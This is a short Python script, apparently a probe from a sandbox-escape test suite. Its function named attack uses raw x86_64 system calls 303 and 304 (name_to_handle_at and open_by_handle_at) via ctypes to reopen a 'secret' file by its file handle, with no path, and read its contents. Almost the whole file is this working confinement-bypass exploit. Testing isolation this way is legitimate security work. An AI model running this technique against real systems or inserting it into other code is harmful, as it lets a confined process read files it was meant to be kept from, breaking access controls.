"""opens the secret by its file handle, without a path"""

import ctypes
import os
import struct

# Python's lock is kept during a call, so that a clone in it is safe.
LIBC = ctypes.PyDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(number, *values):
    """A system call by its number, which raises OSError as Python's own wrappers do."""
    if os.uname().machine != "x86_64":
        raise OSError("the numbers here are x86_64's")
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in values]
    result = LIBC.syscall(ctypes.c_long(number), *values)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    mount_id = ctypes.c_int()
    path = os.fsencode(TARGETS["secret"])
    syscall(303, -100, path, handle, ctypes.byref(mount_id), 0)
    near = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall(304, near, handle, os.O_RDONLY)
    reached(os.read(fd, 20))
